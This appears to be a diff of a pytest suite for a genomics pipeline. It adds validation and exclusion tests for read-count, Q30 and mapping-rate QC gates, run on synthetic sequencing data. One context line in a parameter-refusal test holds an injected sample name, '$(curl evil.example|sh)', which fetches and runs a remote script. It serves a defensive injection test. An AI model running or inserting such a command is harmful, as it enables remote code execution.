@@ -122,6 +122,12 @@ def test_all_approved_resolves_through_the_registry_and_refuses_an_empty_project
     ({"samples": [1, 2]}, "invalid sample id"),
     ({"samples": {"S1": True}}, "non-empty list"),
     ({"samples": [f"S{i}" for i in range(10_001)]}, "at most 10000 samples"),
+    ({"min_q30_rate": 1.5}, r"min_q30_rate must be a number from 0 to 1, got 1\.5"),
+    ({"min_reads": "10000"}, "min_reads must be a whole number of at least 1, got '10000'"),
+    ({"min_reads": 0}, "min_reads must be a whole number of at least 1, got 0"),
+    ({"min_reads": True}, "min_reads must be a whole number of at least 1, got True"),
+    ({"min_mapping_rate": -0.01}, r"min_mapping_rate must be a number from 0 to 1, got -0\.01"),
+    ({"min_mapping_rate": float("nan")}, "min_mapping_rate must be a number from 0 to 1, got nan"),
 ])
 def test_bad_run_config_is_refused_with_a_clear_message(change, message):
     with pytest.raises(RunConfigError, match=message):
@@ -191,6 +197,10 @@ def test_pipeline_dags_chain_their_steps_per_sample_and_publish_their_tables(dag
     {"samples": [f"S{i}" for i in range(10_001)]},
     {"samples": ["S1", "$(curl evil.example|sh)"]},
     {"reference": "../other"},
+    {"min_reads": "many"},
+    {"min_reads": 0},
+    {"min_q30_rate": 1.5},
+    {"min_mapping_rate": -0.1},
 ])
 def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
     from airflow.sdk.exceptions import ParamValidationError
@@ -199,6 +209,25 @@ def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
     with pytest.raises(ParamValidationError):
         params.update(change)
         params.validate()
+
+
+def test_qc_gate_defaults_follow_nf_core_rnaseq():
+    """nf-core/rnaseq: min_trimmed_reads 10000, min_mapped_reads 5 (percent); it has no Q30 minimum."""
+    params = pipeline_params()
+    assert (params["min_reads"].value, params["min_mapping_rate"].value, params["min_q30_rate"].value) == (
+        10_000, 0.05, 0.0)
+    assert plan(FakeLake(["S1"]))["todo"] == ["S1"], "a run config without them takes the defaults"
+
+
+@pytest.mark.parametrize("dag_id, task_id, passed", [
+    ("rnaseq", "fastp", {"--min-reads": "min_reads", "--min-q30-rate": "min_q30_rate"}),
+    ("rnaseq", "salmon_quant", {"--min-mapping-rate": "min_mapping_rate"}),
+    ("germline", "markdup", {"--min-reads": "min_reads", "--min-mapping-rate": "min_mapping_rate"}),
+])
+def test_the_gated_steps_get_the_runs_qc_minimums(dagbag, dag_id, task_id, passed):
+    command = dagbag.dags[dag_id].get_task(f"per_sample.{task_id}").command
+    for flag, param in passed.items():
+        assert command[command.index(flag) + 1] == f"{{{{ params.{param} }}}}"
 
 
 def test_the_trigger_form_accepts_a_list_or_all_approved(dagbag):
@@ -377,6 +406,10 @@ def test_the_lake_refuses_a_uri_that_urlparse_would_shorten(tmp_path, uri):
     (["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0"], {"GENOMICS_PROJECT": "demo\n"},
      "GENOMICS_PROJECT 'demo\\n'"),
     (["genomics_steps.read_stats", "--pipeline-version", "1.0\u2028"], {}, "--pipeline-version '1.0\\u2028'"),
+    (["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0", "--min-q30-rate", "1.5"], {},
+     "--min-q30-rate must be a number from 0 to 1, got 1.5"),
+    (["genomics_steps.germline", "markdup", "--pipeline-version", "1.0", "--min-reads", "0"], {},
+     "--min-reads must be a whole number of at least 1, got 0"),
 ])
 def test_a_step_started_by_hand_with_a_bad_argument_refuses_to_run(tmp_path, args, env, named):
     done = run_step(step_env(tmp_path, "S1", **env), *args)
@@ -461,6 +494,175 @@ def test_reads_that_fastp_cannot_parse_stop_the_step(tmp_path):
 def test_a_missing_input_is_named(tmp_path):
     out = run_step(step_env(tmp_path / "lake", "NOPE"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1")
     assert out.returncode == 66 and "NOPE_R1.fastq.gz does not exist" in out.stderr
+
+
+# --- QC gates inside the steps ----------------------------------------------------------------------------
+def write_reads(lake: Path, sample: str, r1: bytes, r2: bytes) -> None:
+    raw = lake / "raw/P1"
+    raw.mkdir(parents=True, exist_ok=True)
+    (raw / f"{sample}_R1.fastq.gz").write_bytes(r1)
+    (raw / f"{sample}_R2.fastq.gz").write_bytes(r2)
+
+
+def staged_gate(lake: Path, pipeline: str, sample: str, step: str) -> dict[str, float]:
+    """The gate's qc_metrics rows a step staged for ``sample``: metric -> value."""
+    text = (lake / f"staging/qc_metrics/{pipeline}/1.0/project=P1/sample_id={sample}/gate_{step}.tsv").read_text()
+    rows = [line.split("\t") for line in text.splitlines()[1:]]
+    assert {tool for tool, _, _ in rows} == {"gate"}
+    return {metric: float(value) for _, metric, value in rows}
+
+
+def recorded(lake: Path, pipeline: str, sample: str, step: str) -> dict:
+    return json.loads((lake / f"results/{pipeline}/1.0/project=P1/sample={sample}/{step}/metrics.json").read_text())
+
+
+def run_on_local_backend(local, sample: str, pipeline: str, *argv: str) -> tuple[dict, list[str]]:
+    """Run a step as a job of the local backend; returns the job's description and the lines of its log."""
+    from hooks import backend
+    from local_batch.control_plane import wait_for_terminal
+    from local_batch.runner import ensure_runner
+
+    ensure_runner(local.local_home)
+    plane = backend.batch_api(local).plane
+    environment = {"GENOMICS_LAKE_URI": local.lake_root, "GENOMICS_PROJECT": "P1", "GENOMICS_PIPELINE": pipeline,
+                   "GENOMICS_SAMPLE": sample, "GENOMICS_VCPUS": "1"}
+    job = plane.submit_job({
+        "jobName": f"{pipeline}-{sample}", "jobQueue": "genomics-spot", "jobDefinition": f"genomics-{pipeline}",
+        "containerOverrides": {"command": ["python3", "-m", f"genomics_steps.{pipeline}", *argv],
+                               "environment": [{"name": k, "value": v} for k, v in environment.items()]}})
+    detail = wait_for_terminal(plane, job["jobId"], timeout=120)
+    return detail, Path(detail["container"]["logStreamName"]).read_text().splitlines()
+
+
+def test_a_sample_with_too_few_reads_is_excluded_after_fastp_with_the_reason_as_the_last_log_line(local):
+    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE
+
+    lake = Path(local.lake_root.removeprefix("file://"))
+    synthetic.write_reference(local.lake_root, "ref1")
+    write_reads(lake, "TINY", *synthetic.rnaseq_sample("ref1", "TINY", fragments=25)[:2])  # 50 reads
+    detail, log = run_on_local_backend(local, "TINY", "rnaseq", "fastp", "--pipeline-version", "1.0")
+    assert (detail["status"], detail["container"]["exitCode"]) == ("FAILED", EXCLUDED_EXIT_CODE)
+    assert log[-1] == "excluded: the number of reads passing fastp's filters is 50, below min_reads 10000"
+    metrics = recorded(lake, "rnaseq", "TINY", "fastp")  # the work is done and its QC figures are published
+    assert metrics["metrics"]["reads_after"] == 50 and metrics["gate"]["excluded"] == log[-1][len("excluded: "):]
+    assert (lake / "staging/qc_metrics/rnaseq/1.0/project=P1/sample_id=TINY/fastp.tsv").is_file()
+    assert staged_gate(lake, "rnaseq", "TINY", "fastp") == {"reads_below_min": 1, "min_reads": 10_000,
+                                                            "q30_rate_below_min": 0, "min_q30_rate": 0}
+
+
+def test_a_sample_with_enough_good_reads_passes_fastps_gate(tmp_path):
+    lake = tmp_path / "lake"
+    synthetic.write_reference(f"file://{lake}", "ref1")
+    write_reads(lake, "GOOD", *synthetic.rnaseq_sample("ref1", "GOOD", fragments=6000)[:2])
+    out = run_step(step_env(lake, "GOOD"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0",
+                   "--min-q30-rate", "0.9")
+    assert out.returncode == 0, out.stderr
+    assert not any(line.startswith("excluded:") for line in out.stdout.splitlines())
+    assert recorded(lake, "rnaseq", "GOOD", "fastp")["gate"] == {"excluded": None, "flagged": None}
+    assert staged_gate(lake, "rnaseq", "GOOD", "fastp") == {"reads_below_min": 0, "min_reads": 10_000,
+                                                            "q30_rate_below_min": 0, "min_q30_rate": 0.9}
+
+
+def test_a_sample_whose_bases_are_below_q30_is_excluded_for_its_q30_rate(tmp_path):
+    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE
+
+    lake = tmp_path / "lake"
+    synthetic.write_reference(f"file://{lake}", "ref1")
+    write_reads(lake, "LOWQ", *synthetic.rnaseq_sample("ref1", "LOWQ", fragments=6000, phred=20)[:2])
+    out = run_step(step_env(lake, "LOWQ"), "genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0",
+                   "--min-q30-rate", "0.8")
+    assert out.returncode == EXCLUDED_EXIT_CODE, out.stderr
+    assert out.stdout.splitlines()[-1] == ("excluded: the Q30 rate of the reads as sequenced is 0, "
+                                           "below min_q30_rate 0.8")
+    assert recorded(lake, "rnaseq", "LOWQ", "fastp")["metrics"]["reads_after"] == 12_000, "enough reads"
+    assert staged_gate(lake, "rnaseq", "LOWQ", "fastp")["q30_rate_below_min"] == 1
+
+
+def test_a_rerun_excludes_an_excluded_sample_again_without_redoing_the_step(tmp_path):
+    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE
+
+    lake = tmp_path / "lake"
+    synthetic.write_reference(f"file://{lake}", "ref1")
+    write_reads(lake, "TINY", *synthetic.rnaseq_sample("ref1", "TINY", fragments=25)[:2])
+    args = ["genomics_steps.rnaseq", "fastp", "--pipeline-version", "1.0"]
+    first = run_step(step_env(lake, "TINY", AWS_BATCH_JOB_ID="job-1"), *args)
+    assert first.returncode == EXCLUDED_EXIT_CODE, first.stderr
+
+    again = run_step(step_env(lake, "TINY", AWS_BATCH_JOB_ID="job-2"), *args)
+    assert again.returncode == EXCLUDED_EXIT_CODE, "never passed on as if complete"
+    assert "nothing to do" in again.stdout and again.stdout.splitlines()[-1] == first.stdout.splitlines()[-1]
+    assert recorded(lake, "rnaseq", "TINY", "fastp")["job_id"] == "job-1", "fastp was not run again"
+
+    lowered = run_step(step_env(lake, "TINY", AWS_BATCH_JOB_ID="job-3"), *args, "--min-reads", "40")
+    assert lowered.returncode == 0, "judged again from the recorded figures, with this run's threshold"
+    assert recorded(lake, "rnaseq", "TINY", "fastp")["job_id"] == "job-1"
+    assert staged_gate(lake, "rnaseq", "TINY", "fastp")["reads_below_min"] == 0
+
+
+def test_a_low_salmon_mapping_rate_flags_the_sample_and_it_is_still_published(local):
+    """300 transcript fragments among 9,300 (the rest from the genome): about 3% map to the transcriptome."""
+    from hooks import backend
+    from operators.publish import PublishTableOperator
+    from tests.conftest import task_context
+
+    lake = Path(local.lake_root.removeprefix("file://"))
+    synthetic.write_reference(local.lake_root, "ref1")
+    rna = synthetic.rnaseq_sample("ref1", "MIX", fragments=300)
+    dna = synthetic.germline_sample("ref1", "MIX", depth=30)
+    write_reads(lake, "MIX", *(gzip.compress(gzip.decompress(a) + gzip.decompress(b))
+                               for a, b in zip(rna[:2], dna[:2])))
+    env = step_env(lake, "MIX")
+    for args in (["salmon-index", "--reference", "ref1"], ["fastp", "--pipeline-version", "1.0"],
+                 ["salmon-quant", "--pipeline-version", "1.0", "--reference", "ref1"]):
+        out = run_step(env, "genomics_steps.rnaseq", *args)
+        assert out.returncode == 0, out.stderr
+    rate = recorded(lake, "rnaseq", "MIX", "salmon_quant")["metrics"]["percent_mapped"] / 100
+    assert 0.01 < rate < 0.05
+    assert f"flagged: salmon's mapping rate is {rate:.4g}, below min_mapping_rate 0.05" in out.stdout
+    assert staged_gate(lake, "rnaseq", "MIX", "salmon_quant") == {"mapping_rate_below_min": 1,
+                                                                  "min_mapping_rate": 0.05}
+
+    PublishTableOperator(task_id="publish_qc_metrics", table="qc_metrics", project="P1", pipeline="rnaseq",
+                         pipeline_version="1.0", units=["MIX"]).execute(task_context(task_id="publish_qc_metrics"))
+    _, rows = backend.query_engine(local).fetch(
+        "SELECT metric, value FROM qc_metrics WHERE sample_id = 'MIX' AND tool = 'gate' ORDER BY metric")
+    assert rows == [("mapping_rate_below_min", 1.0), ("min_mapping_rate", 0.05), ("min_q30_rate", 0.0),
+                    ("min_reads", 10_000.0), ("q30_rate_below_min", 0.0), ("reads_below_min", 0.0)]
+
+
+def run_germline_to_markdup(lake: Path, sample: str, *markdup_args: str) -> subprocess.CompletedProcess:
+    env = step_env(lake, sample, "germline")
+    for args in (["bwa-index", "--reference", "ref1"], ["bwa-mem", "--pipeline-version", "1.0", "--reference", "ref1"]):
+        out = run_step(env, "genomics_steps.germline", *args)
+        assert out.returncode == 0, out.stderr
+    return run_step(env, "genomics_steps.germline", "markdup", "--pipeline-version", "1.0", *markdup_args)
+
+
+def test_germline_excludes_a_sample_with_too_few_reads_after_markdup(tmp_path):
+    from genomics_steps.outcomes import EXCLUDED_EXIT_CODE
+
+    lake = tmp_path / "lake"
+    synthetic.write_reference(f"file://{lake}", "ref1")
+    r1, r2, _ = synthetic.germline_sample("ref1", "FEW", depth=1)  # 300 pairs
+    write_reads(lake, "FEW", r1, r2)
+    out = run_germline_to_markdup(lake, "FEW")
+    assert out.returncode == EXCLUDED_EXIT_CODE, out.stderr
+    assert out.stdout.splitlines()[-1] == ("excluded: the number of primary reads (samtools flagstat) is 600, "
+                                           "below min_reads 10000")
+    assert recorded(lake, "germline", "FEW", "markdup")["metrics"]["reads"] == 600
+    assert staged_gate(lake, "germline", "FEW", "markdup") == {"reads_below_min": 1, "min_reads": 10_000,
+                                                               "mapping_rate_below_min": 0, "min_mapping_rate": 0.05}
+
+
+def test_germline_flags_a_sample_whose_reads_do_not_map_to_the_genome(tmp_path):
+    lake = tmp_path / "lake"
+    synthetic.write_reference(f"file://{lake}", "ref1")
+    write_reads(lake, "RNA", *synthetic.rnaseq_sample("ref1", "RNA", fragments=1000)[:2])  # transcripts only
+    out = run_germline_to_markdup(lake, "RNA", "--min-reads", "1000")
+    assert out.returncode == 0, out.stderr
+    assert "flagged: the primary mapped rate (samtools flagstat) is 0, below min_mapping_rate 0.05" in out.stdout
+    assert staged_gate(lake, "germline", "RNA", "markdup")["mapping_rate_below_min"] == 1
+    assert recorded(lake, "germline", "RNA", "markdup")["gate"]["flagged"]
 
 
 TRANSITIONS = [("A", "G"), ("G", "A"), ("C", "T"), ("T", "C")]
@@ -670,7 +872,7 @@ def test_germline_end_to_end_as_array_jobs_recovers_the_planted_snvs(local, dagb
         called = {(c, int(p), r, a) for s, c, p, r, a in rows if s == sample}
         assert synthetic.snv_recall(lake, "e2e", sample, called) >= 0.9
     _, qc = backend.query_engine(local).fetch("SELECT DISTINCT tool FROM qc_metrics ORDER BY 1")
-    assert qc == [("bcftools",), ("samtools",)]
+    assert qc == [("bcftools",), ("gate",), ("samtools",)]
     _, tstv = backend.query_engine(local).fetch(
         "SELECT sample_id, metric, value FROM qc_metrics WHERE tool = 'bcftools' AND metric IN "
         "('transitions', 'transversions', 'ts_tv')")
